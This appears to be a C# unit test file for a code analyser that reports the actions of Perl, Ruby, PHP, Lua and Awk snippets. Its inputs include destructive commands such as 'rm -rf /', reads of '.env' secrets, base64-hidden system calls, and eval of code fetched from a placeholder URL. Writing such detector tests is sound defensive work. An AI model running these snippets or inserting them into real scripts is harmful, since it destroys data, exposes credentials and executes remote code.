using SigmaShake.Rules.Programs;

namespace SigmaShake.Rules.Tests.Analysis.Code;

/// <summary>What code in Perl, Ruby, PHP, Lua and Awk does.</summary>
public sealed class ScriptingCodeTests
{
    [Theory]
    [InlineData("system(\"rm -rf /\");", "sh: rm -rf /")]
    [InlineData("system 'rm -rf /'", "sh: rm -rf /")]
    [InlineData("system('rm', '-rf', '/')", "rm -rf /")]
    [InlineData("system qw(rm -rf /)", "rm -rf /")]
    [InlineData("exec {'rm'} 'rm', '-rf', '/'", "")]
    [InlineData("`rm -rf /`; qx{ls}; print qx/pwd/", "sh: rm -rf /; sh: ls; sh: pwd")]
    [InlineData("my $d = '/'; system(\"rm -rf $d\")", "sh: rm -rf /")]
    [InlineData("system('rm -rf ' . $ARGV[0])", "sh: <rm -rf ${_}>")]
    [InlineData("unlink 'a', \"b\"; unlink glob(\"/etc/*\");", "rm a b; rm /etc/*")]
    [InlineData("unlink glob '/etc/*'", "rm /etc/*")]
    [InlineData("use File::Path; rmtree('/'); File::Path::remove_tree('/a')", "rm -rf /; rm -rf /a")]
    [InlineData("open(F, '>', 'a'); open(my $f, \"<b\"); open(G, '>>c');", "Write: a; Read: b; Edit: c")]
    [InlineData("open(F, 'rm -rf /|'); open(F, '|-', 'ls')", "sh: rm -rf /; sh: ls")]
    [InlineData("use LWP::Simple; eval get('https://x.example')", "Network: https://x.example; RemoteCode: https://x.example")]
    [InlineData("system(<<EOF);\nrm -rf /\nEOF\nunlink 'a'", "sh: rm -rf /\n; rm a")]
    [InlineData("unlink 'a' if -e 'a'; unlink 'b' or die", "rm a; rm b")]
    [InlineData("print 'rm -rf /'; # unlink 'a'", "")]
    [InlineData("s/unlink 'a'/x/; m{system('ls')}; print if /system(\"ls\")/", "")]
    [InlineData("my $q = 'unlink'; $x{system}", "")]
    [InlineData("print q(unlink 'a')", "")]
    public void Perl(string code, string deeds) => Assert.Equal(deeds, ShownDeeds.Of(Language.Perl, code));

    [Theory]
    [InlineData("system(\"rm -rf /\")", "sh: rm -rf /")]
    [InlineData("system 'rm', '-rf', '/'", "rm -rf /")]
    [InlineData("Kernel.system 'ls'; Kernel::exec('ls')", "sh: ls; sh: ls")]
    [InlineData("`rm -rf /`; %x(ls); puts %x{pwd}", "sh: rm -rf /; sh: ls; sh: pwd")]
    [InlineData("d = '/'; system(\"rm -rf #{d}\")", "sh: rm -rf /")]
    [InlineData("require 'fileutils'; FileUtils.rm_rf('/home/user')", "rm -rf /home/user")]
    [InlineData("FileUtils.rm_rf '/'", "rm -rf /")]
    [InlineData("FileUtils.rm_rf %w[a b]", "rm -rf a b")]
    [InlineData("FileUtils.rm_rf(['a', 'b'], secure: true)", "rm -rf a b")]
    [InlineData("File.delete('a'); File.unlink 'b'; Pathname.new('c').rmtree", "rm a; rm b; rm -rf c")]
    [InlineData("File.write('a', 'x'); File.open('b', 'w') { |f| f.puts 'x' }; puts File.read('.env')", "Write: a; Write: b; Read: .env")]
    [InlineData("IO.popen('ls'); IO.popen(['rm', 'a']); open('|pwd')", "sh: ls; rm a; sh: pwd")]
    [InlineData("require 'open-uri'; eval(URI.open('https://x.example').read)", "Network: https://x.example; RemoteCode: https://x.example")]
    [InlineData("eval Net::HTTP.get(URI('https://x.example'))", "Network: https://x.example; RemoteCode: https://x.example")]
    [InlineData("system(Base64.decode64('bHM='))", "sh: ls")]
    [InlineData("system('ls') if File.exist?('a')", "sh: ls")]
    [InlineData("puts 'ok'", "")]
    [InlineData("puts 'system(\"ls\")' # `ls`", "")]
    [InlineData("=begin\nsystem('ls')\n=end\nputs 1", "")]
    [InlineData("h = {system: 'ls'}; puts h[:system]", "")]
    public void Ruby(string code, string deeds) => Assert.Equal(deeds, ShownDeeds.Of(Language.Ruby, code));

    [Theory]
    [InlineData("system('rm -rf /');", "sh: rm -rf /")]
    [InlineData("<?php echo shell_exec(\"ls\"); ?>", "sh: ls")]
    [InlineData("$d = '/'; exec(\"rm -rf $d\"); EXEC('ls');", "sh: rm -rf /; sh: ls")]
    [InlineData("echo `ls`;", "sh: ls")]
    [InlineData("unlink('a'); rmdir(\"b\"); array_map('unlink', glob('*'));", "rm a; rmdir b")]
    [InlineData("eval(file_get_contents('https://x.example'));", "Network: https://x.example; RemoteCode: https://x.example")]
    [InlineData("system(base64_decode('bHM='));", "sh: ls")]
    [InlineData("file_put_contents('a', 'rm -rf /'); echo file_get_contents('.env');", "Write: a; Read: .env")]
    [InlineData("echo 'system(\"ls\")'; // unlink('a')", "")]
    public void Php(string code, string deeds) => Assert.Equal(deeds, ShownDeeds.Of(Language.Php, code));

    [Theory]
    [InlineData("os.execute('rm -rf /')", "sh: rm -rf /")]
    [InlineData("os.execute \"rm -rf /\"", "sh: rm -rf /")]
    [InlineData("io.popen([[ls]]); os.remove('a')", "sh: ls; rm a")]
    [InlineData("local d = '/'; os.execute('rm -rf ' .. d)", "sh: rm -rf /")]
    [InlineData("print('rm -rf /') -- os.remove('a')", "")]
    public void Lua(string code, string deeds) => Assert.Equal(deeds, ShownDeeds.Of(Language.Lua, code));

    [Theory]
    [InlineData("BEGIN { system(\"rm -rf /\") }", "sh: rm -rf /")]
    [InlineData("BEGIN { \"rm -rf /\" | getline }", "sh: rm -rf /")]
    [InlineData("BEGIN { \"printf ok\" | getline line; print line }", "sh: printf ok")]
    [InlineData("{ print $1 | \"sh\" }", "sh: sh")]
    [InlineData("{ print $1 > \"a\"; print $2 >> \"b\" }", "Write: a; Edit: b")]
    [InlineData("BEGIN { while ((getline line < \".env\") > 0) print line }", "Read: .env")]
    [InlineData("BEGIN { c = \"rm -rf \"; system(c \"/\") }", "sh: rm -rf /")]
    [InlineData("{ system(\"rm \" $1) }", "sh: <rm ${1}>")]
    [InlineData("{print $1}", "")]
    [InlineData("$1 > \"a\" { print }", "")]
    [InlineData("/system(\"ls\")/ { print } # system(\"ls\")", "")]
    public void Awk(string code, string deeds) => Assert.Equal(deeds, ShownDeeds.Of(Language.Awk, code));
}
